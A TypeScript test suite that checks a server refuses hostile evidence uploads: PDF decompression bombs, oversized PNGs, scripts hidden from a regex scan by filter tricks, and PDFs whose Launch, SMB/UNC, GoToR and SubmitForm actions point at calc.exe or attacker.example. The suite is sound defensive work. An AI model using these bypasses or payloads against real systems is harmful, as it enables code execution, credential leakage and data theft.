import { execFile } from "node:child_process";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import path from "node:path";
import { promisify } from "node:util";
import { performance } from "node:perf_hooks";
import { deflateSync } from "node:zlib";
import { count } from "drizzle-orm";
import type { LightMyRequestResponse } from "fastify";
import { PDFName } from "pdf-lib";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { EVIDENCE_MESSAGES } from "../../src/domain/case/evidence.ts";
import { evidenceFiles, evidencePages } from "../../src/server/db/schema.ts";
import { setFileJobLimits } from "../../src/server/features/evidence/file-pool.ts";
import { readPdf } from "../../src/server/features/evidence/prepare-file.ts";
import { addLink, hugePng, multipart, pdfText, pdfWith, pdfWithScript, plainPdf } from "../helpers/evidence-files.ts";
import { lockedPdf, pdfWithBomb, pdfWithHiddenOpenAction, slowPdf } from "../helpers/hostile-pdfs.ts";
import { createLetter } from "../helpers/factories.ts";
import { buyLetter } from "../helpers/local-checkout.ts";
import { createTestApp, signUp, type TestApp } from "../helpers/test-app.ts";
import { scaled } from "../timeouts.ts";

/**
 * Files made to hurt the server (found over HTTP on a $5 letter): each is refused with a clear 4xx
 * and its message, stores nothing, and leaves the server answering. Decision 0023.
 */
let t: TestApp;
/** Sends the hostile files one at a time: 22 attempts, within the 30 allowed in 10 minutes. */
let owner: { cookie: string; letterId: number };
beforeAll(async () => {
  t = await createTestApp();
  owner = await payingUser();
  /* The file worker started (through tsx here, seconds on a busy machine), as a running server has it. */
  expect((await readPdf(await plainPdf(), true)).verdict).toBe("passive");
});
afterAll(() => t.close());

/** A new user with a paid letter, whose upload attempts are not yet counted. */
async function payingUser() {
  const { cookie } = await signUp(t.app);
  const letterId = await createLetter(t.app, cookie);
  await buyLetter(t.app, cookie, letterId);
  return { cookie, letterId };
}

function upload(bytes: Buffer, fileName: string) {
  const body = multipart([{ name: "file", fileName, type: "application/octet-stream", bytes }]);
  return t.app.inject({
    method: "POST",
    url: `/api/demand-letters/${owner.letterId}/evidence`,
    payload: body.payload,
    headers: { ...body.headers, cookie: owner.cookie },
  });
}

/** Rows of evidence and of their pictures, in every letter. */
async function stored(): Promise<[number, number]> {
  const [[files], [pages]] = await Promise.all([
    t.db.select({ n: count() }).from(evidenceFiles),
    t.db.select({ n: count() }).from(evidencePages),
  ]);
  return [files?.n ?? 0, pages?.n ?? 0];
}

/** Refused with this status and message (also on the file field), nothing stored, the server still answering. */
async function expectRefused(response: LightMyRequestResponse, status: number, message: string, before: number[]) {
  expect(response.statusCode, response.body).toBe(status);
  expect(response.json()).toMatchObject({ message, fields: { file: message } });
  expect(await stored()).toEqual(before);
  expect((await t.app.inject({ method: "GET", url: "/healthz" })).statusCode).toBe(200);
}

const run = promisify(execFile);
const hex = (bytes: Buffer) => Buffer.from(`${bytes.toString("hex")}>`, "latin1");

/** The ways a script hid from the regex check: each is one object stream holding the OpenAction. */
const BYPASSES: [string, Buffer, string][] = [
  [
    "a nested dictionary after its filter",
    pdfWithHiddenOpenAction({ dict: "/Filter /FlateDecode /Extra << /Nested true >>", encode: deflateSync }),
    EVIDENCE_MESSAGES.pdfActive,
  ],
  [
    "an escaped filter name (/Fl#61teDecode)",
    pdfWithHiddenOpenAction({ dict: "/Filter /Fl#61teDecode", encode: deflateSync }),
    EVIDENCE_MESSAGES.pdfActive,
  ],
  [
    "hex encoding (/ASCIIHexDecode)",
    pdfWithHiddenOpenAction({ dict: "/Filter /ASCIIHexDecode", encode: hex }),
    EVIDENCE_MESSAGES.pdfActive,
  ],
  [
    "hex over Flate ([/ASCIIHexDecode /FlateDecode])",
    pdfWithHiddenOpenAction({
      dict: "/Filter [/ASCIIHexDecode /FlateDecode]",
      encode: (plain) => hex(deflateSync(plain)),
    }),
    EVIDENCE_MESSAGES.pdfActive,
  ],
  [
    "a stream dictionary longer than 512 bytes",
    pdfWithHiddenOpenAction({ dict: `/Filter /FlateDecode /Padding (${"x".repeat(600)})`, encode: deflateSync }),
    EVIDENCE_MESSAGES.pdfActive,
  ],
  [
    "a stream past the unpacking budget",
    pdfWithHiddenOpenAction({
      dict: "/Filter /FlateDecode",
      encode: (plain) => deflateSync(Buffer.concat([plain, Buffer.alloc(65 * 1024 * 1024, 0x20)])),
    }),
    EVIDENCE_MESSAGES.tooComplex,
  ],
];

/** PDFs that act, made as a viewer reads them. */
const ACTIONS: [string, () => Promise<Buffer>][] = [
  [
    "a document script (Names/JavaScript)",
    () =>
      pdfWith((pdf) => {
        const script = pdf.context.obj({ S: "JavaScript", JS: pdfText("app.alert('hi')") });
        pdf.catalog.set(PDFName.of("Names"), pdf.context.obj({ JavaScript: { Names: [pdfText("start"), script] } }));
      }),
  ],
  ["an open-action script", pdfWithScript],
  [
    "a script when a page opens (/AA)",
    () =>
      pdfWith((pdf, page) => {
        page.node.set(PDFName.of("AA"), pdf.context.obj({ O: { S: "JavaScript", JS: pdfText("app.alert(2)") } }));
      }),
  ],
  ["a Launch action", () => pdfWith((pdf, page) => addLink(pdf, page, { S: "Launch", F: pdfText("calc.exe") }))],
  [
    "a file: link",
    () =>
      pdfWith((pdf, page) => addLink(pdf, page, { S: "URI", URI: pdfText("file:///C:/Windows/System32/calc.exe") })),
  ],
  [
    "a link to a network share (\\\\host)",
    () => pdfWith((pdf, page) => addLink(pdf, page, { S: "URI", URI: pdfText("\\\\attacker.example\\share\\a.pdf") })),
  ],
  [
    "an smb: link",
    () => pdfWith((pdf, page) => addLink(pdf, page, { S: "URI", URI: pdfText("smb://attacker.example/share") })),
  ],
  ["an attached file", () => pdfWith((pdf) => pdf.attach(Buffer.from("MZ"), "invoice.exe", { mimeType: "x/y" }))],
  [
    "a link to another file (GoToR)",
    () => pdfWith((pdf, page) => addLink(pdf, page, { S: "GoToR", F: pdfText("\\\\attacker.example\\s\\b.pdf") })),
  ],
  [
    "a form that submits (SubmitForm)",
    () =>
      pdfWith((pdf, page) =>
        addLink(pdf, page, { S: "SubmitForm", F: { FS: "URL", F: pdfText("https://attacker.example/c") } }),
      ),
  ],
  [
    "an XFA form",
    () =>
      pdfWith((pdf) => {
        pdf.catalog.set(PDFName.of("AcroForm"), pdf.context.obj({ Fields: [], XFA: pdfText("<xdp:xdp/>") }));
      }),
  ],
];

/**
 * Sends every upload of `uploads` (indexes into `files`) at once, from another process: as an
 * attacker would, and so the test's own client does not share the server's event loop.
 */
async function sendAtOnce(url: string, cookie: string, files: Buffer[], uploads: number[]) {
  const dir = mkdtempSync(path.join(tmpdir(), "burst-"));
  try {
    const bodies = files.map((bytes, index) => {
      const body = multipart([{ name: "file", fileName: "evidence", type: "application/octet-stream", bytes }]);
      const file = path.join(dir, `${index}.body`);
      writeFileSync(file, body.payload);
      return { file, type: body.headers["content-type"] };
    });
    const script = `
      import { readFileSync } from "node:fs";
      const { url, cookie, bodies, uploads } = JSON.parse(process.env.BURST);
      const payloads = bodies.map((body) => ({ bytes: readFileSync(body.file), type: body.type }));
      const answers = await Promise.all(uploads.map(async (index) => {
        const { bytes, type } = payloads[index];
        const response = await fetch(url, { method: "POST", body: bytes, headers: { "content-type": type, cookie } });
        return { status: response.status, message: (await response.json()).message };
      }));
      process.stdout.write(JSON.stringify(answers));`;
    const { stdout } = await run(process.execPath, ["--input-type=module", "-e", script], {
      env: { ...process.env, BURST: JSON.stringify({ url, cookie, bodies, uploads }) },
    });
    return JSON.parse(stdout) as { status: number; message: string }[];
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

/** The server thread's busy share while a hostile file is refused: far below the near 1 of doing the work itself. */
const MOSTLY_IDLE = 0.8;

describe("hostile evidence files", () => {
  it("refuses a PDF whose page unpacks to 64 MB, in seconds, without the server's thread doing the work", async () => {
    const before = await stored();
    const bomb = pdfWithBomb();
    expect(bomb.length).toBeLessThan(100 * 1024);
    const loop = performance.eventLoopUtilization();
    const started = performance.now();
    const response = await upload(bomb, "reply.pdf");
    const took = performance.now() - started;
    const busy = performance.eventLoopUtilization(loop).utilization;
    await expectRefused(response, 400, EVIDENCE_MESSAGES.tooComplex, before);
    expect(took).toBeLessThan(scaled(5_000));
    /* Inflated on the server's own thread, this takes it for about 10 s (busy near 1). On a loaded
       machine the request's own work alone can take half of a short upload, so the bar is 0.8. */
    expect(busy).toBeLessThan(MOSTLY_IDLE);
  });

  it("refuses a 30000 × 30000 PNG from its header, before its 2.7 GB of pixels are decoded", async () => {
    const before = await stored();
    const png = hugePng(30000);
    const rss = process.memoryUsage.rss();
    const started = performance.now();
    const response = await upload(png, "screenshot.png");
    expect(performance.now() - started).toBeLessThan(scaled(2_000));
    expect(process.memoryUsage.rss() - rss).toBeLessThan(300 * 1024 * 1024);
    await expectRefused(response, 413, EVIDENCE_MESSAGES.tooManyPixels, before);
  });

  it.each(BYPASSES)("refuses a script hidden by %s", async (_, pdf, message) => {
    const before = await stored();
    await expectRefused(await upload(pdf, "reply.pdf"), 400, message, before);
  });

  it.each(ACTIONS)("refuses a PDF with %s", async (_, make) => {
    const before = await stored();
    await expectRefused(await upload(await make(), "reply.pdf"), 400, EVIDENCE_MESSAGES.pdfActive, before);
  });

  it("refuses a password-locked PDF, which cannot be read", async () => {
    const before = await stored();
    await expectRefused(await upload(lockedPdf(), "reply.pdf"), 400, EVIDENCE_MESSAGES.pdfLocked, before);
  });

  it("refuses a PDF that takes too long to read; its worker is replaced and the next file is read", async () => {
    const before = await stored();
    /* CPU time is what the file costs, whatever else the machine does: not scaled. */
    const limits = setFileJobLimits({ cpuMs: 1_000, wallMs: scaled(15_000) });
    try {
      const loop = performance.eventLoopUtilization();
      const started = performance.now();
      const response = await upload(slowPdf(), "reply.pdf");
      /* Stopped by a limit, not read to the end (a minute of CPU): on a busy machine a second of CPU
         can take many seconds of wall time, so the bound is the job's wall limit. */
      expect(performance.now() - started).toBeLessThan(scaled(15_000));
      const busy = performance.eventLoopUtilization(loop).utilization;
      await expectRefused(response, 400, EVIDENCE_MESSAGES.tooComplex, before);
      /* Drawn on the file worker: the server's own thread stayed mostly idle (drawing this on it takes it for a minute). */
      expect(busy).toBeLessThan(MOSTLY_IDLE);
    } finally {
      setFileJobLimits(limits);
    }
    expect((await upload(await plainPdf("The next file, after the slow one."), "reply.pdf")).statusCode).toBe(201);
  });

  it("a file the clock stops before it has used its CPU time is turned away as busy (503), never called too complex", async () => {
    const before = await stored();
    /* What a machine too busy to give the file its time looks like to the pool: the wall clock runs out first. */
    const limits = setFileJobLimits({ cpuMs: 60_000, wallMs: 300 });
    try {
      const response = await upload(slowPdf(), "reply.pdf");
      expect(response.statusCode, response.body).toBe(503);
      expect(response.json()).toMatchObject({ message: EVIDENCE_MESSAGES.busy });
      expect(await stored()).toEqual(before);
    } finally {
      setFileJobLimits(limits);
    }
    expect((await upload(await plainPdf("The next file, after the busy refusal."), "reply.pdf")).statusCode).toBe(201);
  });

  it("counts every upload attempt, refused ones too: 34 hostile files at once get 30 answers and 4 × 429, and /healthz answers throughout", async () => {
    const burst = await payingUser();
    const before = await stored();
    await t.app.listen({ port: 0, host: "127.0.0.1" });
    const base = `http://127.0.0.1:${(t.app.server.address() as AddressInfo).port}`;
    const files = [hugePng(30000), BYPASSES[0]?.[1] ?? Buffer.alloc(0), await pdfWithScript(), pdfWithBomb()];
    /* Mostly quick refusals, and a bomb in every eight. */
    const uploads = Array.from({ length: 34 }, (_, index) => (index % 8 === 7 ? 3 : index % 3));

    let polling = true;
    const latencies: number[] = [];
    const poll = (async () => {
      while (polling) {
        const started = performance.now();
        const health = await fetch(`${base}/healthz`);
        latencies.push(performance.now() - started);
        expect(health.status).toBe(200);
        await new Promise((resolve) => setTimeout(resolve, 25));
      }
    })();
    const url = `${base}/api/demand-letters/${burst.letterId}/evidence`;
    const responses = await sendAtOnce(url, burst.cookie, files, uploads);
    polling = false;
    await poll;

    const limited = responses.filter((response) => response.status === 429);
    expect(limited).toHaveLength(4);
    for (const response of limited)
      expect(response.message).toBe("Too many uploads. Please wait 10 minutes and try again.");
    const refused = responses.filter((response) => response.status !== 429);
    expect(refused).toHaveLength(30);
    /* Refused for what they are; on a machine too busy to read them all within 10 s, turned away (503) for a minute. */
    for (const response of refused) {
      expect([400, 413, 503]).toContain(response.status);
      if (response.status === 503) expect(response.message).toBe(EVIDENCE_MESSAGES.busy);
    }
    expect(refused.filter((response) => response.status === 503).length).toBeLessThan(10);
    expect(await stored()).toEqual(before);
    /*
     * Nine polls in ten within 250 ms: on a loaded 2-core machine the scheduler alone sometimes
     * holds the server's thread longer. Reading files on that thread held every poll for seconds.
     */
    expect(latencies.length).toBeGreaterThan(10);
    const quick = latencies.filter((latency) => latency < scaled(250));
    expect(quick.length / latencies.length).toBeGreaterThanOrEqual(0.9);
  });
});
